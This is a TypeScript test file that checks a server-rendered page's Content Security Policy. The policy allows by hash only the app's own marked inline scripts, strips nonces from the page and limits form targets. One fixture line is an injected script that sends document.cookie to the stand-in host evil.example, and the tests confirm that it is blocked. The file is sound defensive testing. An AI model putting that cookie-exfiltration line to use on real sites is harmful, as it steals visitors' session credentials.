import { createHash } from "node:crypto";

import { describe, expect, it } from "vitest";

import { pageWithPolicy, renderMarker } from "./content-security-policy.server";

const hashOf = (body: string) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`;
const scriptSources = (policy: string) =>
  policy
    .split("; ")
    .find((part) => part.startsWith("script-src"))!
    .split(" ")
    .slice(1);

describe("the page CSP", () => {
  const marker = renderMarker();
  const appScript = 'window.__reactRouterContext = {"basename":"/"};';
  const injected = "fetch('https://evil.example/?c=' + document.cookie)";
  const rendered = [
    `<html><head><link rel="modulepreload" href="/assets/a.js" nonce="${marker}"/></head><body>`,
    // stored text that somehow reached the page as HTML: a script without the render's marker
    `<p>Review: great fan<script>${injected}</script></p>`,
    `<script nonce="${marker}">${appScript}</script>`,
    `<script type="module" nonce="${marker}" async="">import "/assets/entry.js";</script>`,
    `<script nonce="${marker}" src="/assets/x.js"></script>`,
    `<script type="application/ld+json">{"@type":"Product"}</script>`,
    "</body></html>",
  ].join("");

  it("allows by hash only the inline scripts the app rendered with this render's marker", () => {
    const { policy } = pageWithPolicy(rendered, marker);
    expect(scriptSources(policy)).toEqual([
      "'self'",
      hashOf(appScript),
      hashOf('import "/assets/entry.js";'),
    ]);
    expect(policy).not.toContain(hashOf(injected));
    expect(scriptSources(policy)).not.toContain("'unsafe-inline'");
  });

  it("refuses a script that copies another render's marker", () => {
    const other = renderMarker();
    expect(other).not.toBe(marker);
    const { policy } = pageWithPolicy(`<script nonce="${other}">${injected}</script>`, marker);
    expect(scriptSources(policy)).toEqual(["'self'"]);
  });

  it("takes the marker out of the page, so every visitor gets the same HTML", () => {
    const { html } = pageWithPolicy(rendered, marker);
    expect(html).not.toContain(marker);
    expect(html).not.toContain("nonce=");
    expect(html).toContain(`<script>${appScript}</script>`);
    expect(pageWithPolicy(rendered.replaceAll(marker, "other"), "other").html).toBe(html);
  });

  it("lets forms post only to us, and to the payment gateway's checkout when one is set up", () => {
    const formAction = (policy: string) => policy.split("; ").find((part) => part.startsWith("form-action"));
    expect(formAction(pageWithPolicy(rendered, marker).policy)).toBe("form-action 'self'");
    const withGateway = pageWithPolicy(rendered, marker, { formTargets: ["https://api.razorpay.com"] });
    expect(formAction(withGateway.policy)).toBe("form-action 'self' https://api.razorpay.com");
  });
});
